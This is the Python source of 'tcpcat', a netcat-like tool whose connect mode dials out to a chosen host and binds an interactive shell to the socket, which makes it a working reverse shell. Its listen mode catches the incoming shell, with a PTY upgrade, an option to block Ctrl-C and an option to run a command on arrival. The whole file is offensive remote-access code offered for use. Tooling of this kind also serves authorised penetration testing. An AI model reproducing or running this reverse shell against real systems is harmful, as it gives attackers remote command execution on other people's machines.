"""Command line: connect a shell to a remote host, or listen for one."""

from __future__ import annotations

import argparse
import contextlib
import errno
import os
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any

from tcpcat import logger
from tcpcat.readline import Editor, Interrupted
from tcpcat.signals import block_exit_signals
from tcpcat.terminal import setup_terminal

try:
    import fcntl
    import pty
    import termios
except ImportError:  # platforms without pseudo-terminals
    fcntl = None  # type: ignore[assignment]
    pty = None  # type: ignore[assignment]
    termios = None  # type: ignore[assignment]

VERSION = "1.0.0"
_CHUNK_SIZE = 32 * 1024
_IS_WINDOWS = os.name == "nt"
_GREEN = "32"
_CYAN = "36"


@dataclass
class ListenOptions:
    """How an accepted connection is handled."""

    interactive: bool = False
    block_signals: bool = False
    local_interactive: bool = False
    exec_cmd: str = ""


def _say(colour: str, text: str) -> None:
    stream = sys.stdout
    isatty = getattr(stream, "isatty", None)
    try:
        coloured = bool(isatty and isatty()) and "NO_COLOR" not in os.environ
    except (OSError, ValueError):
        coloured = False
    if coloured:
        text = f"\x1b[{colour}m{text}\x1b[0m"
    stream.write(text + "\n")
    stream.flush()


def _join_host_port(host: str, port: str) -> str:
    return f"[{host}]:{port}" if ":" in host else f"{host}:{port}"


def _relay(read: Callable[[int], bytes], write: Callable[[bytes], Any]) -> None:
    while chunk := read(_CHUNK_SIZE):
        write(chunk)


def _stream_reader(stream: Any) -> Callable[[int], bytes]:
    source = getattr(stream, "buffer", stream)
    return getattr(source, "read1", source.read)


def _stream_writer(stream: Any) -> Callable[[bytes], None]:
    target = getattr(stream, "buffer", stream)

    def write(data: bytes) -> None:
        target.write(data)
        target.flush()

    return write


def _shutdown(conn: socket.socket) -> None:
    with contextlib.suppress(OSError):
        conn.shutdown(socket.SHUT_RDWR)


def _report_exit(code: int) -> None:
    if code == 0:
        logger.warn("Shell exited")
        return
    if code < 0:
        try:
            reason = f"signal: {signal.Signals(-code).name}"
        except ValueError:
            reason = f"signal: {-code}"
    else:
        reason = f"exit status {code}"
    logger.warn("Shell exited with error: %s", reason)


def connect(host: str, port: str, shell: str) -> None:
    """Connect to host:port and run shell with its input and output on the connection."""
    address = _join_host_port(host, port)
    try:
        conn = socket.create_connection((host, port))
    except (OSError, OverflowError) as exc:
        raise ConnectionError(f"failed to connect to {address}: {exc}") from exc
    with conn:
        _say(_GREEN, f"Connected to {address}")
        if _IS_WINDOWS:
            _connect_windows(conn, shell)
        else:
            _connect_unix(conn, shell)


def _connect_unix(conn: socket.socket, shell: str) -> None:
    fd = conn.fileno()
    try:
        proc = subprocess.Popen([shell, "-i"], stdin=fd, stdout=fd, stderr=fd)
    except (OSError, ValueError) as exc:
        raise OSError(f"failed to start shell: {exc}") from exc
    _report_exit(proc.wait())


def _connect_windows(conn: socket.socket, shell: str) -> None:
    try:
        proc = subprocess.Popen(
            [shell],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
    except (OSError, ValueError) as exc:
        raise OSError(f"failed to start shell: {exc}") from exc

    def feed() -> None:
        try:
            _relay(conn.recv, _stream_writer(proc.stdin))
        except (OSError, ValueError) as exc:
            logger.error("conn to stdin copy error: %s", exc)
        finally:
            with contextlib.suppress(OSError, ValueError):
                proc.stdin.close()

    def drain(stream: Any, label: str) -> None:
        try:
            _relay(_stream_reader(stream), conn.sendall)
        except (OSError, ValueError) as exc:
            logger.error("%s to conn copy error: %s", label, exc)

    for target, args in ((feed, ()), (drain, (proc.stdout, "stdout")), (drain, (proc.stderr, "stderr"))):
        threading.Thread(target=target, args=args, daemon=True).start()

    _report_exit(proc.wait())


def _open_listener(host: str, port: str) -> socket.socket:
    address = _join_host_port(host, port)
    try:
        family, kind, proto, _, sockaddr = socket.getaddrinfo(
            host or None, port, type=socket.SOCK_STREAM, flags=socket.AI_PASSIVE
        )[0]
        server = socket.socket(family, kind, proto)
        try:
            if not _IS_WINDOWS:
                server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            server.bind(sockaddr)
            server.listen()
        except OSError:
            server.close()
            raise
    except (OSError, OverflowError, UnicodeError) as exc:
        raise OSError(f"failed to bind to {address}: {exc}") from exc
    return server


def listen(host: str, port: str, options: ListenOptions) -> None:
    """Accept one connection on host:port and handle it as options say."""
    address = _join_host_port(host, port)
    with _open_listener(host, port) as server:
        _say(_GREEN, f"Listening on {address}")
        try:
            conn, _ = server.accept()
        except OSError as exc:
            raise OSError(f"failed to accept connection: {exc}") from exc
        with conn:
            try:
                _say(_CYAN, "Connection received")
                if options.interactive:
                    _handle_interactive(conn, options)
                elif options.local_interactive:
                    _handle_local_interactive(conn)
                else:
                    _handle_normal(conn, options)
            finally:
                _shutdown(conn)


def _handle_normal(conn: socket.socket, options: ListenOptions) -> None:
    if options.block_signals:
        block_exit_signals()

    if options.exec_cmd:
        try:
            conn.sendall((options.exec_cmd + "\n").encode())
        except OSError as exc:
            raise OSError(f"failed to send exec command: {exc}") from exc

    stdin_done = threading.Event()
    read_stdin = _stream_reader(sys.stdin)

    def feed() -> None:
        try:
            _relay(read_stdin, conn.sendall)
        except (OSError, ValueError) as exc:
            logger.error("stdin copy error: %s", exc)
        finally:
            stdin_done.set()
            _shutdown(conn)

    threading.Thread(target=feed, daemon=True).start()

    try:
        _relay(conn.recv, _stream_writer(sys.stdout))
    except OSError as exc:
        if stdin_done.is_set():
            return
        raise OSError(f"stdout copy error: {exc}") from exc


def _interactive_shell() -> str:
    if _IS_WINDOWS:
        return "cmd.exe"
    return os.environ.get("SHELL") or "/bin/sh"


def _take_controlling_tty() -> None:
    with contextlib.suppress(OSError):
        fcntl.ioctl(0, termios.TIOCSCTTY, 0)


def _inherit_size(master: int) -> None:
    try:
        size = fcntl.ioctl(sys.stdin.fileno(), termios.TIOCGWINSZ, b"\0" * 8)
        fcntl.ioctl(master, termios.TIOCSWINSZ, size)
    except (OSError, ValueError, AttributeError) as exc:
        logger.error("error resizing pty: %s", exc)


def _write_fd(fd: int, data: bytes) -> None:
    view = memoryview(data)
    while view:
        written = os.write(fd, view)
        view = view[written:]


def _read_master(master: int) -> Callable[[int], bytes]:
    def read(size: int) -> bytes:
        try:
            return os.read(master, size)
        except OSError as exc:
            if exc.errno == errno.EIO:  # the shell side of the pty closed
                return b""
            raise

    return read


def _handle_interactive(conn: socket.socket, options: ListenOptions) -> None:
    if options.block_signals:
        block_exit_signals()
    state = None if _IS_WINDOWS else setup_terminal()
    try:
        _run_pty_session(conn)
    finally:
        if state is not None:
            state.restore()


def _run_pty_session(conn: socket.socket) -> None:
    if pty is None:
        raise OSError("failed to start pty: pseudo-terminals are not supported on this platform")
    shell = _interactive_shell()
    try:
        master, slave = pty.openpty()
    except OSError as exc:
        raise OSError(f"failed to start pty: {exc}") from exc
    try:
        proc = subprocess.Popen(
            [shell, "-i"],
            stdin=slave,
            stdout=slave,
            stderr=slave,
            start_new_session=True,
            preexec_fn=_take_controlling_tty,
        )
    except (OSError, ValueError) as exc:
        os.close(master)
        raise OSError(f"failed to start pty: {exc}") from exc
    finally:
        os.close(slave)

    previous_winch = None
    watch_resize = hasattr(signal, "SIGWINCH") and threading.current_thread() is threading.main_thread()
    _inherit_size(master)
    if watch_resize:
        previous_winch = signal.signal(signal.SIGWINCH, lambda signum, frame: _inherit_size(master))

    def feed() -> None:
        try:
            _relay(conn.recv, lambda data: _write_fd(master, data))
        except OSError as exc:
            logger.error("conn to pty copy error: %s", exc)

    threading.Thread(target=feed, daemon=True).start()

    try:
        _relay(_read_master(master), conn.sendall)
    except OSError as exc:
        raise OSError(f"pty to conn copy error: {exc}") from exc
    finally:
        if watch_resize:
            signal.signal(signal.SIGWINCH, previous_winch)
        os.close(master)
        with contextlib.suppress(subprocess.TimeoutExpired):
            proc.wait(timeout=1)


def _handle_local_interactive(conn: socket.socket) -> None:
    write_stdout = _stream_writer(sys.stdout)

    def drain() -> None:
        try:
            _relay(conn.recv, write_stdout)
        except (OSError, ValueError) as exc:
            logger.error("connection read error: %s", exc)

    threading.Thread(target=drain, daemon=True).start()

    _say(_CYAN, "Connection received")

    editor = Editor(prompt=">> ")
    while True:
        try:
            command = editor.readline()
        except EOFError:
            break
        except (Interrupted, OSError) as exc:
            raise RuntimeError(f"failed to read command: {exc}") from exc

        if command.strip() == "exit":
            break

        try:
            conn.sendall((command + "\n").encode())
        except OSError as exc:
            raise OSError(f"failed to send command: {exc}") from exc


def _split_address(address: Sequence[str], default_host: str) -> tuple[str, str]:
    if len(address) == 1:
        return default_host, address[0]
    return address[0], address[1]


def _run_connect(args: argparse.Namespace) -> None:
    host, port = _split_address(args.address, "127.0.0.1")
    connect(host, port, args.shell)


def _run_listen(args: argparse.Namespace) -> None:
    host, port = _split_address(args.address, "0.0.0.0")
    options = ListenOptions(
        interactive=args.interactive,
        block_signals=args.block_signals,
        local_interactive=args.local_interactive,
        exec_cmd=args.exec_cmd,
    )
    listen(host, port, options)


def build_parser() -> argparse.ArgumentParser:
    """Build the argument parser with its connect and listen commands."""
    parser = argparse.ArgumentParser(
        prog="tcpcat",
        description=(
            "A netcat-like tool that provides network connectivity: "
            "reverse shells, listeners and raw TCP sessions."
        ),
    )
    parser.add_argument("-v", "--version", action="version", version=f"%(prog)s version {VERSION}")
    commands = parser.add_subparsers(dest="command", metavar="command")

    connect_parser = commands.add_parser(
        "connect",
        aliases=["c"],
        help="Connect to the controlling host",
        description="Connect to a remote host and spawn a reverse shell.",
    )
    connect_parser.add_argument("address", nargs="+", metavar="[host] port")
    connect_parser.add_argument(
        "-s",
        "--shell",
        default="cmd.exe" if _IS_WINDOWS else "/bin/sh",
        help="The shell to use",
    )
    connect_parser.set_defaults(handler=_run_connect, command_parser=connect_parser)

    listen_parser = commands.add_parser(
        "listen",
        aliases=["l"],
        help="Start a listener for incoming connections",
        description="Start a TCP listener on the specified port and optionally host.",
    )
    listen_parser.add_argument("address", nargs="+", metavar="[host] port")
    modes = listen_parser.add_mutually_exclusive_group()
    modes.add_argument("-i", "--interactive", action="store_true", help="Interactive mode")
    modes.add_argument(
        "-l", "--local-interactive", action="store_true", help="Local interactive mode"
    )
    listen_parser.add_argument(
        "-b", "--block-signals", action="store_true", help="Block exit signals like CTRL-C"
    )
    listen_parser.add_argument(
        "-e", "--exec", dest="exec_cmd", default="", help="Execute command when connection received"
    )
    listen_parser.set_defaults(handler=_run_listen, command_parser=listen_parser)

    return parser


def main(argv: Sequence[str] | None = None) -> int:
    """Run the command line; exits with status 1 on failure."""
    logger.setup_logger()
    parser = build_parser()
    args = parser.parse_args(argv)
    if args.command is None:
        parser.print_help()
        return 0
    if len(args.address) > 2:
        args.command_parser.error(
            f"accepts between 1 and 2 arg(s), received {len(args.address)}"
        )
    try:
        args.handler(args)
    except (OSError, RuntimeError) as exc:
        logger.fatal("Error: %s", exc)
    return 0


if __name__ == "__main__":
    sys.exit(main())